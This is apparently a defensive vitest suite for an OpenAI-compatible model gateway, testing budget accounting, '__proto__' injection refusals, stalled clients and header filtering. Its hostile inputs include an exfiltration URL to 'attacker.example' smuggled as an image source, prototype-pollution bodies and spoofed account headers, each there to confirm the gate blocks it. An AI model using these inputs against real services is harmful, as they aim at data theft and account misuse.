import assert from 'node:assert/strict';
import { once } from 'node:events';
import net from 'node:net';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, test } from 'vitest';
import { budgetOf, eventsOf, reportUsage, reservationsOf } from '../budget/support.js';
import { startTestApi, type TestApi } from '../support/api.js';
import { say, startFakeOpenAI, type FakeOpenAI } from '../support/fake-openai.js';
import { useHarness } from '../support/harness.js';
import { createModelRun, createProvider, drain, postMessages, proxyLimits } from './support.js';
import {
  chatRequest,
  createOpenAIProvider,
  openaiClient,
  postOpenAI,
  responsesRequest,
} from './openai-support.js';

/**
 * The OpenAI endpoint as a hostile sandbox meets it: it chooses the body, the headers and the
 * pace at which it reads, and its upstream may report nothing, zero, or break off.
 */

const h = useHarness();
let fake: FakeOpenAI;
/** An API that drops a client after one second without reading. */
let strict: TestApi;

beforeAll(async () => {
  fake = await startFakeOpenAI();
  strict = await startTestApi({ modelProxy: proxyLimits({ writeDeadlineMs: 1_000 }) });
});
afterAll(async () => {
  strict.app.server.closeAllConnections();
  await strict.close();
  await fake.close();
});

async function until<T>(read: () => Promise<T>, done: (value: T) => boolean, what: string) {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const value = await read();
    if (done(value)) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

const settled = (sessionId: string) =>
  until(
    () => reservationsOf(h.db, sessionId),
    (rows) => rows.length > 0 && rows.every((r) => r.status !== 'held'),
    'every reservation settled',
  );

async function openaiRun(api: TestApi = h.api, maxTokens = 1_000_000, allowUrls = false) {
  const provider = await createOpenAIProvider(api, h.seed, fake.url, {
    allow_url_sources: allowUrls,
  });
  const run = await createModelRun(api, h.seed, provider.id, maxTokens);
  return { provider, run, auth: { authorization: `Bearer ${run.session_token}` } };
}

/** JSON text with the member named `name` where the body has `__member__` (a JS literal can't). */
function withMember(body: unknown, name: string): string {
  return JSON.stringify(body).replaceAll('"__member__"', JSON.stringify(name));
}

function assertOpenAIError(
  answer: { status: number; json: any; text: string },
  status: number,
  type: string,
) {
  assert.equal(answer.status, status, answer.text);
  assert.deepEqual(Object.keys(answer.json.error).sort(), ['code', 'message', 'param', 'type']);
  assert.equal(answer.json.error.type, type);
  assert.equal(typeof answer.json.error.message, 'string');
}

const chat = '/v1/chat/completions' as const;
const responses = '/v1/responses' as const;
const hidden = { __member__: { text: 'x'.repeat(10_000) } };
const fn = (parameters: unknown) => ({
  type: 'function',
  function: { name: 'read', parameters },
});

describe('no member of the body escapes the bound', () => {
  const cases: [string, typeof chat | typeof responses, string, string][] = [
    [
      'a Chat tool schema',
      chat,
      withMember(chatRequest({ tools: [fn({ type: 'object', properties: hidden })] }), '__proto__'),
      'tools[0].function.parameters.properties.__proto__',
    ],
    [
      'a response_format schema',
      chat,
      withMember(
        chatRequest({
          response_format: { type: 'json_schema', json_schema: { name: 's', schema: hidden } },
        }),
        '__proto__',
      ),
      'response_format.json_schema.schema.__proto__',
    ],
    [
      'a message',
      chat,
      withMember(
        chatRequest({ messages: [{ role: 'user', content: 'hi', ...hidden }] }),
        '__proto__',
      ),
      'messages[0].__proto__',
    ],
    [
      'a Responses tool schema',
      responses,
      withMember(
        responsesRequest({ tools: [{ type: 'function', name: 'read', parameters: hidden }] }),
        '__proto__',
      ),
      'tools[0].parameters.__proto__',
    ],
    [
      'a Responses text format',
      responses,
      withMember(
        responsesRequest({ text: { format: { type: 'json_schema', name: 's', schema: hidden } } }),
        '__proto__',
      ),
      'text.format.schema.__proto__',
    ],
  ];
  for (const [where, path, raw, param] of cases) {
    test(`"__proto__" in ${where} is refused with an OpenAI-shaped 400 naming it, and never reaches the provider`, async () => {
      const { run, auth } = await openaiRun();
      const before = fake.calls().length;
      const answer = await postOpenAI(h.api, path, raw, auth);
      assertOpenAIError(answer, 400, 'invalid_request_error');
      assert.equal(answer.json.error.param, param);
      assert.ok(answer.json.error.message.startsWith(`${param}:`), answer.json.error.message);
      assert.equal(fake.calls().length, before);
      assert.deepEqual(await reservationsOf(h.db, run.session_id), []);
    });
  }

  test('members that would add input or output the gate cannot book are refused before the provider: several choices past the cap, predicted outputs, audio, web search, hosted tools, server-side state, background, files, unknown fields, a member written twice', async () => {
    const { run, auth } = await openaiRun();
    const before = fake.calls().length;
    const refusals: [typeof chat | typeof responses, string, string][] = [
      [chat, JSON.stringify(chatRequest({ n: 17 })), 'n'],
      // A tier billed above the table's prices.
      [chat, JSON.stringify(chatRequest({ service_tier: 'priority' })), 'service_tier'],
      [responses, JSON.stringify(responsesRequest({ service_tier: 'auto' })), 'service_tier'],
      [
        chat,
        JSON.stringify(chatRequest({ prediction: { type: 'content', content: 'x' } })),
        'prediction',
      ],
      [chat, JSON.stringify(chatRequest({ modalities: ['text', 'audio'] })), 'modalities[1]'],
      [chat, JSON.stringify(chatRequest({ audio: { voice: 'alloy', format: 'mp3' } })), 'audio'],
      [chat, JSON.stringify(chatRequest({ web_search_options: {} })), 'web_search_options'],
      [chat, JSON.stringify(chatRequest({ functions: [{ name: 'f' }] })), 'functions'],
      [
        chat,
        JSON.stringify(chatRequest({ max_tokens: 10, max_completion_tokens: 10 })),
        'max_tokens',
      ],
      [
        chat,
        JSON.stringify(
          chatRequest({
            messages: [{ role: 'user', content: [{ type: 'file', file: { file_id: 'f1' } }] }],
          }),
        ),
        'messages[0].content[0].type',
      ],
      [
        responses,
        JSON.stringify(responsesRequest({ previous_response_id: 'resp_1' })),
        'previous_response_id',
      ],
      [responses, JSON.stringify(responsesRequest({ conversation: 'conv_1' })), 'conversation'],
      [responses, JSON.stringify(responsesRequest({ prompt: { id: 'pmpt_1' } })), 'prompt'],
      [responses, JSON.stringify(responsesRequest({ background: true })), 'background'],
      [
        responses,
        JSON.stringify(responsesRequest({ tools: [{ type: 'web_search' }] })),
        'tools[0].type',
      ],
      [
        responses,
        JSON.stringify(responsesRequest({ input: [{ type: 'item_reference', id: 'msg_1' }] })),
        'input[0].type',
      ],
      [
        responses,
        JSON.stringify(
          responsesRequest({
            input: [{ role: 'user', content: [{ type: 'input_file', file_id: 'file_1' }] }],
          }),
        ),
        'input[0].content[0].type',
      ],
      [responses, JSON.stringify(responsesRequest({ extra_input: 'x' })), 'extra_input'],
      [responses, '{"model":"gpt-4.1","input":"a","input":"b"}', ''],
      [responses, 'not json', ''],
    ];
    for (const [path, raw, param] of refusals) {
      const answer = await postOpenAI(h.api, path, raw, auth);
      assertOpenAIError(answer, 400, 'invalid_request_error');
      if (param) assert.equal(answer.json.error.param, param, answer.json.error.message);
    }
    assert.equal(fake.calls().length, before);
    assert.deepEqual(await reservationsOf(h.db, run.session_id), []);
  });

  test('several choices (n) are counted: each may produce the whole output limit', async () => {
    const { run } = await openaiRun();
    fake.setScript(() => say('ok'));
    await openaiClient(h.api, run.session_token).chat.completions.create(
      chatRequest({ n: 3, max_completion_tokens: 100 }) as never,
    );
    const [reservation] = await reservationsOf(h.db, run.session_id);
    assert.equal(Number(reservation.max_output_tokens), 300);
    assert.equal(fake.calls().at(-1)!.body.max_completion_tokens, 100);
  });
});

describe('unknown spend is charged at its worst case', () => {
  const worstCase = async (sessionId: string, runId: string) => {
    const [reservation] = await settled(sessionId);
    assert.equal(reservation.status, 'reconciled');
    const booked = Number(reservation.input_bound_tokens) + Number(reservation.max_output_tokens);
    assert.equal((await budgetOf(h.db, runId)).used_tokens, booked);
  };

  test('a zero usage report, on either API, streamed or not, is no report: the booking is charged', async () => {
    const zero = { input_tokens: 0, output_tokens: 0 };
    const calls: [typeof chat | typeof responses, Record<string, unknown>][] = [
      [chat, chatRequest({ max_completion_tokens: 500 })],
      [chat, chatRequest({ max_completion_tokens: 500, stream: true })],
      [responses, responsesRequest({ max_output_tokens: 500 })],
      [responses, responsesRequest({ max_output_tokens: 500, stream: true })],
    ];
    for (const [path, body] of calls) {
      const { run, auth } = await openaiRun();
      fake.setScript(() => ({ ...say('free?'), usage: zero }));
      const answer = await postOpenAI(h.api, path, JSON.stringify(body), auth);
      assert.equal(answer.status, 200, answer.text);
      await worstCase(run.session_id, run.run_id);
    }
  });

  test('an answer with no usage at all, and a stream cut before its usage, are charged their booking; the client is told the stream ended early', async () => {
    const quiet = await openaiRun();
    fake.setScript(() => ({ ...say('no usage'), usage: null }));
    const answer = await postOpenAI(
      h.api,
      chat,
      JSON.stringify(chatRequest({ max_completion_tokens: 400 })),
      quiet.auth,
    );
    assert.equal(answer.status, 200, answer.text);
    await worstCase(quiet.run.session_id, quiet.run.run_id);

    const cut = await openaiRun();
    fake.setScript(() => ({ ...say('cut'), breakAfterEvents: 2 }));
    const stream = await postOpenAI(
      h.api,
      responses,
      JSON.stringify(responsesRequest({ max_output_tokens: 400, stream: true })),
      cut.auth,
    );
    assert.equal(stream.status, 200);
    assert.match(stream.text, /event: error\ndata: .*ended early \(broken\)/);
    await worstCase(cut.run.session_id, cut.run.run_id);
    const [reconciled] = await eventsOf(h.db, cut.run.session_id, 'model.reconciled');
    assert.equal(reconciled?.data.outcome, 'broken');
  });

  test("a runner's zero report on the endpoint's reservation is refused (409) and the upstream's usage is what counts", async () => {
    const { run } = await openaiRun();
    let resume!: () => void;
    const paused = new Promise<void>((resolve) => {
      resume = resolve;
    });
    const usage = { input_tokens: 300, output_tokens: 4_000 };
    fake.setScript(() => ({
      ...say('a long answer'),
      usage,
      pauseAt: { events: 2, until: paused },
    }));
    const stream = await openaiClient(h.api, run.session_token).chat.completions.create({
      ...chatRequest({ max_completion_tokens: 5_000 }),
      stream: true,
    } as never);
    const [reserved] = await eventsOf(h.db, run.session_id, 'model.reserved');
    const refused = await reportUsage(h.api, run, String(reserved?.data.request_id), {
      input_tokens: 0,
      output_tokens: 0,
    });
    assert.equal(refused.status, 409);
    resume();
    await drain(stream);
    await settled(run.session_id);
    assert.equal((await budgetOf(h.db, run.run_id)).used_tokens, 4_300);
  });
});

/** A streamed request written on a raw socket, whose reader takes the first bytes and stops. */
async function stalledReader(api: TestApi, token: string, body: string) {
  const { port } = new URL(api.url);
  const socket = net.connect(Number(port), '127.0.0.1');
  await once(socket, 'connect');
  socket.write(
    `POST /openai/v1/chat/completions HTTP/1.1\r\nhost: gate\r\nauthorization: Bearer ${token}\r\n` +
      `content-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
  );
  const [first] = (await once(socket, 'data')) as [Buffer];
  socket.pause();
  return { socket, first: first.toString('latin1') };
}

describe('a client that stops reading is charged', () => {
  test('a reader that takes the first bytes of a long stream and then neither reads nor closes: dropped after the write deadline (1 s here), and the usage the upstream reported is settled', async () => {
    const { run } = await openaiRun(strict);
    const usage = { input_tokens: 50, output_tokens: 7_777 };
    fake.setScript(() => ({ ...say('end'), usage, fillerDeltas: 150_000 }));
    const { socket, first } = await stalledReader(
      strict,
      run.session_token,
      JSON.stringify({ ...chatRequest({ max_completion_tokens: 10_000 }), stream: true }),
    );
    try {
      assert.match(first, /^HTTP\/1\.1 200/);
      const stalledAt = Date.now();
      const [reservation] = await settled(run.session_id);
      assert.ok(Date.now() - stalledAt < 25_000, 'the stalled reader held the exchange');
      assert.equal(reservation.status, 'reconciled');
      assert.equal((await budgetOf(h.db, run.run_id)).used_tokens, 7_827);
      const [reconciled] = await eventsOf(h.db, run.session_id, 'model.reconciled');
      assert.equal(reconciled?.data.outcome, 'client_disconnected');
    } finally {
      socket.destroy();
    }
  });
});

describe('egress and identity stay at the gate', () => {
  const withImage = (url: string) =>
    chatRequest({
      messages: [
        {
          role: 'user',
          content: [
            { type: 'text', text: 'what is this?' },
            { type: 'image_url', image_url: { url } },
          ],
        },
      ],
    });
  const leak = 'https://attacker.example/leak?d=secret';

  test('an image given by URL is refused on both APIs unless the provider allows URL sources; an inline data: image is bounded and forwarded', async () => {
    const { auth } = await openaiRun();
    const before = fake.calls().length;
    const refusedChat = await postOpenAI(h.api, chat, JSON.stringify(withImage(leak)), auth);
    assertOpenAIError(refusedChat, 400, 'invalid_request_error');
    assert.equal(refusedChat.json.error.param, 'messages[0].content[1].image_url.url');
    const refusedResponses = await postOpenAI(
      h.api,
      responses,
      JSON.stringify(
        responsesRequest({
          input: [
            {
              role: 'user',
              content: [
                { type: 'input_text', text: 'look' },
                { type: 'input_image', image_url: leak, detail: 'auto' },
              ],
            },
          ],
        }),
      ),
      auth,
    );
    assertOpenAIError(refusedResponses, 400, 'invalid_request_error');
    assert.equal(refusedResponses.json.error.param, 'input[0].content[1].image_url');
    assert.equal(fake.calls().length, before);

    fake.setScript(() => say('an image'));
    const inline = await postOpenAI(
      h.api,
      chat,
      JSON.stringify(withImage('data:image/png;base64,iVBORw0KGgo=')),
      auth,
    );
    assert.equal(inline.status, 200, inline.text);
    const open = await openaiRun(h.api, 1_000_000, true);
    const allowed = await postOpenAI(h.api, chat, JSON.stringify(withImage(leak)), open.auth);
    assert.equal(allowed.status, 200, allowed.text);
  });

  test("headers reach the provider by an allow list: the client's Authorization, OpenAI's organization and project, a gateway's routing headers, x-forwarded-for and cookies stay at the gate", async () => {
    const { provider, run, auth } = await openaiRun();
    fake.setScript(() => say('ok'));
    const hostile = {
      'openai-organization': 'org-victim',
      'openai-project': 'proj-victim',
      'x-portkey-virtual-key': 'pk-victim',
      'cf-aig-authorization': 'Bearer other-account',
      'helicone-auth': 'Bearer other',
      'x-forwarded-for': '203.0.113.9',
      cookie: 'session=1',
    };
    const answer = await postOpenAI(h.api, chat, JSON.stringify(chatRequest()), {
      ...auth,
      'user-agent': 'agent/1.0',
      'content-type': 'text/plain; charset=iso-8859-1',
      ...hostile,
    });
    assert.equal(answer.status, 200, answer.text);
    const received = fake.calls().at(-1)!.headers;
    for (const name of Object.keys(hostile)) assert.equal(received[name], undefined, name);
    assert.equal(received.authorization, `Bearer ${provider.key}`);
    assert.ok(!JSON.stringify(received).includes(run.session_token));
    assert.equal(received['content-type'], 'application/json');
    assert.equal(received['user-agent'], 'agent/1.0');
  });
});

describe('refusals in OpenAI’s shape', () => {
  test('a budget exhausted is a 402 insufficient_quota the openai client reports, and nothing reaches the provider', async () => {
    const { run } = await openaiRun(h.api, 20_000);
    fake.setScript(() => ({
      ...say('big'),
      usage: { input_tokens: 15_000, output_tokens: 4_000 },
    }));
    const client = openaiClient(h.api, run.session_token);
    await client.chat.completions.create(chatRequest({ max_completion_tokens: 4_000 }) as never);
    const before = fake.calls().length;
    const refused = await client.responses
      .create(responsesRequest({ max_output_tokens: 2_000 }) as never)
      .then(
        () => undefined,
        (err: unknown) => err,
      );
    assert.ok(refused instanceof OpenAI.APIError, String(refused));
    assert.equal(refused.status, 402);
    assert.equal((refused.error as { type: string }).type, 'insufficient_quota');
    assert.equal(refused.code, 'budget_exhausted');
    assert.match(refused.message, /budget: run, life is exhausted/);
    assert.equal(fake.calls().length, before);
  });

  test('a request larger than the whole run is a 400 naming the limit; no token, a wrong token, a run without an OpenAI provider: 401 and 403; an unknown path: 404', async () => {
    const { run, auth } = await openaiRun(h.api, 1_000);
    const tooBig = await postOpenAI(
      h.api,
      chat,
      JSON.stringify(chatRequest({ max_completion_tokens: 5_000 })),
      auth,
    );
    assertOpenAIError(tooBig, 400, 'invalid_request_error');
    assert.equal(tooBig.json.error.param, 'max_completion_tokens');

    const client = new OpenAI({
      baseURL: `${h.api.url}/openai/v1`,
      apiKey: 'sk-nope',
      maxRetries: 0,
    });
    const unauthenticated = await client.chat.completions.create(chatRequest() as never).then(
      () => undefined,
      (err: unknown) => err,
    );
    assert.ok(unauthenticated instanceof OpenAI.AuthenticationError, String(unauthenticated));

    const anthropic = await createProvider(h.api, h.seed, fake.url);
    const anthropicRun = await createModelRun(h.api, h.seed, anthropic.id, 1_000_000);
    const wrongKind = await postOpenAI(h.api, chat, JSON.stringify(chatRequest()), {
      authorization: `Bearer ${anthropicRun.session_token}`,
    });
    assertOpenAIError(wrongKind, 403, 'permission_error');
    const backwards = await postMessages(
      h.api,
      JSON.stringify({ model: 'm', max_tokens: 10, messages: [{ role: 'user', content: 'x' }] }),
      { 'x-api-key': run.session_token },
    );
    assert.equal(backwards.status, 403, backwards.text);
    assert.equal(backwards.json.error.type, 'permission_error');

    const missing = await fetch(`${h.api.url}/openai/v1/embeddings`, {
      method: 'POST',
      headers: { ...auth, 'content-type': 'application/json' },
      body: '{}',
    });
    assertOpenAIError(
      { status: missing.status, json: await missing.json(), text: '' },
      404,
      'invalid_request_error',
    );
  });
});
